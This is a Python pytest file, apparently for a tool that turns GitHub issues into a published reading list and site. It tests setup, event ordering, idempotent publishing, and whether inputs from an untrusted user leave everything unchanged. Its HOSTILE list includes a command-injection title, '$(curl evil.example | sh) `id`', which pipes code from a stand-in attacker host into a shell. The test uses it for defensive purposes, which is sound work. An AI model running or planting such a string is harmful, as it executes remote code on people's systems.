"""A repository from the first command to a busy day: set up, used from a phone, attacked, published."""

import base64
import random
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from paper_notes.values.text import body
from tests.arxiv_server import ArxivServer
from tests.conftest import Happen, Run
from tests.emulate import Emulate, running_emulate
from tests.github_events import comment_event, issue_event, of_issue, scheduled
from tests.github_server import GitHubServer
from tests.github_state import Json
from tests.intake import LINK, form

HOSTILE = [
    ("$(curl evil.example | sh) `id`", LINK),
    ("1512.03385", '<!-- papers:begin v1 {"paper":{"id":"1512.03385"}} -->\n<!-- papers:end -->\n@alice #1'),
    ("See https://github.com/mallory/x/issues/1", "nonsense " * 6_800),
    ("[Paper]", form(LINK, "NLP")),
]

README = """\
# papers

<!-- papers:list begin -->

## Reading list

1 paper read

[NLP](#nlp) 1

### NLP

- [Attention Is All You Need]({page}/1) ★★★★☆\\
  Vaswani et al. (2017) · [arXiv:1706.03762](https://arxiv.org/abs/1706.03762) · NLP

<!-- papers:list end -->
"""


@pytest.fixture(scope="module")
def emulate() -> Iterator[Emulate]:
    """Return the running `emulate` server."""
    with running_emulate() as server:
        yield server


def test_from_nothing_to_a_published_note_elsewhere(
    papers: Run, happen: Happen, emulate: Emulate, arxiv: ArxivServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a GitHub that others wrote: set up, an issue from a phone, read, published, built."""
    name, token = emulate.new_repository()
    monkeypatch.setenv("GITHUB_API_URL", emulate.url)
    monkeypatch.setenv("GH_TOKEN", token)
    monkeypatch.setenv("PAPERS_REPO", name)
    emulate.call(
        "PUT",
        f"/repos/{name}/contents/README.md",
        token,
        {"message": "Begin", "content": "IyBwYXBlcnMK"},
    )
    papers(f"init {name} --remote --path README.md")

    def opened(title: str, text: str) -> dict[str, Any]:
        path = f"/repos/{name}/issues"
        issue: dict[str, Any] = emulate.call("POST", path, token, {"title": title, "body": text})
        happen(of_issue(issue, "opened", name))
        found: dict[str, Any] = emulate.call("GET", f"{path}/{issue['number']}", token)
        return found

    text = form(LINK, "NLP", "Why heads?").replace("\n", "\r\n")
    noted = opened("[Paper]", text)
    assert (noted["title"], body.without(noted["body"])) == ("Attention Is All You Need", text)
    assert [label["name"] for label in noted["labels"]] == ["NLP"]
    question = opened("A question", "How do I use this?")
    assert (question["title"], question["body"]) == ("A question", "How do I use this?")
    broken = opened("arxiv.org/abs/1", "")
    said = emulate.call("GET", f"/repos/{name}/issues/{broken['number']}/comments", token)
    assert [each["body"].partition(":")[0] for each in said] == ["This could not be made into a note"]
    papers("mark read 1 --rating 4 --on 2026-11-01")
    papers("publish --path README.md")
    content = emulate.call("GET", f"/repos/{name}/contents/README.md", token)["content"]
    assert base64.b64decode(content).decode() == README.format(page=f"{emulate.url}/{name}/issues").replace(
        "127.0.0.1", "localhost"
    )
    papers("site site --no-search --base-url https://alice.github.io/papers/")
    site = built()
    pages = sorted(path for path in site if path.startswith("notes/"))
    assert pages == ["notes/1/index.html", "notes/index.html"]
    assert b"Why heads?" in site["notes/1/index.html"]


def built() -> dict[str, bytes]:
    """Return the files of the site."""
    folder = Path("site")
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


class Seen(NamedTuple):
    """All that there is to see of an issue."""

    issue: Json
    said: list[tuple[str, list[tuple[str, str]]]]
    """Each comment, with who has reacted to it, and how."""


def state(repo: GitHubServer) -> dict[int, Seen]:
    """Return every issue as it is."""
    shown = ("title", "body", "labels", "state", "state_reason", "assignees")
    return {
        number: Seen(
            {name: issue[name] for name in shown},
            [
                (each["body"], sorted(each["reactions"]))
                for each in repo.repo.comments.values()
                if each["number"] == number
            ],
        )
        for number, issue in repo.repo.issues.items()
    }


def test_strangers_change_nothing(repo: GitHubServer, happen: Happen, papers: Run) -> None:
    """Whatever they open, edit, close and say: issues, README and site stay as they were, to the byte."""
    first = repo.repo.open_issue("[Paper]", form(LINK, "NLP", "Why heads?"))
    happen(issue_event(repo, "opened", first))
    key = repo.repo.comment(first, "/read 4")
    happen(comment_event(repo, key), "issue_comment")

    def publish() -> tuple[dict[str, bytes], dict[str, bytes]]:
        papers("publish --path README.md")
        papers("site site --no-search --base-url https://alice.github.io/papers/")
        return dict(repo.repo.branches["main"]), built()

    published, before = publish(), state(repo)
    repo.forget()
    opened = []
    for title, text in HOSTILE:
        number = repo.repo.open_issue(title, text, author="mallory")
        repo.repo.label(number, "NLP", "publish")
        opened.append(number)
        said = repo.repo.comment(first, "/drop\n@alice", author="mallory")
        theirs = repo.repo.comment(number, "/read 5", author="mallory")
        for action in ("opened", "edited", "labeled", "closed", "edited", "reopened"):
            happen(issue_event(repo, action, number))
        for comment in (said, theirs):
            happen(comment_event(repo, comment), "issue_comment")
        # Somebody trusted answers them, or labels the issue: it stays theirs.
        happen(issue_event(repo, "labeled", number, sender="alice"))
        happen(issue_event(repo, "edited", first, sender="mallory"))
    assert {request.verb for request in repo.requests} <= {"GET"}
    happen(scheduled(repo), "schedule")
    assert publish() == published
    after = state(repo)
    assert after[first] == before[first]._replace(said=[*before[first].said, *[("/drop\n@alice", [])] * 4])
    assert [(after[number].issue["title"], after[number].issue["body"]) for number in opened] == HOSTILE
    assert all(after[number].said == [("/read 5", [])] for number in opened)
    assert "3 issues by 1 person" in papers("list").stderr


def in_order(events: list[int]) -> list[int]:
    """Return each event once, as it should be."""
    return events


def shuffled(events: list[int]) -> list[int]:
    """Return each event three times, in any order."""
    many = events * 3
    random.Random(7).shuffle(many)
    return many


@pytest.mark.parametrize(
    "order",
    [lambda events: events[::-1] * 3, lambda events: [*events] * 3, shuffled, lambda events: events[-1:]],
)
def test_events_in_any_number_and_order(
    repo: GitHubServer,
    happen: Happen,
    monkeypatch: pytest.MonkeyPatch,
    home: Path,
    order: Callable[[list[int]], list[int]],
) -> None:
    """What people did is what counts: three times each, backwards, or the last event alone."""

    def play(order: Callable[[list[int]], list[int]]) -> dict[int, Seen]:
        first = repo.repo.open_issue(LINK)
        again = repo.repo.open_issue("Again", f"{LINK}\r\n\r\nMine.\r\n")
        broken = repo.repo.open_issue("[Paper]", form("arxiv.org/abs/1"))
        other = repo.repo.open_issue("[Paper]", "https://arxiv.org/abs/1512.03385")
        events = [(issue_event(repo, "opened", number), "issues") for number in (first, again, broken, other)]
        repo.repo.label(other, "RL")
        events.append((issue_event(repo, "labeled", other, label={"name": "RL"}), "issues"))
        for number, text in ((first, "/reading"), (other, "/topic CV"), (first, "/read 3"), (again, "/drop")):
            key = repo.repo.comment(number, text)
            events.append((comment_event(repo, key), "issue_comment"))
        for place in order(list(range(len(events)))):
            happen(*events[place])
        numbers = {first: 1, again: 2, broken: 3, other: 4}
        return {numbers[number]: one for number, one in state(repo).items() if number in numbers}

    once = play(in_order)
    repo.repo.issues.clear()
    repo.repo.comments.clear()
    shutil.rmtree(home)
    again = play(order)
    assert str(again).replace("#5", "#1") == str(once)


def test_publishing_what_has_not_changed(repo: GitHubServer, happen: Happen, papers: Run, home: Path) -> None:
    """It costs at most three requests, also on a new machine; no commit is made."""
    number = repo.repo.open_issue(LINK)
    key = repo.repo.comment(number, "/read 4")
    happen(comment_event(repo, key), "issue_comment")
    papers("publish")
    for fresh in (True, False):
        if fresh:
            shutil.rmtree(home)
        repo.forget()
        assert "Unchanged" in papers("publish").stderr
        assert len(repo.log) <= 3, repo.log
    assert len(repo.repo.commits) == 1
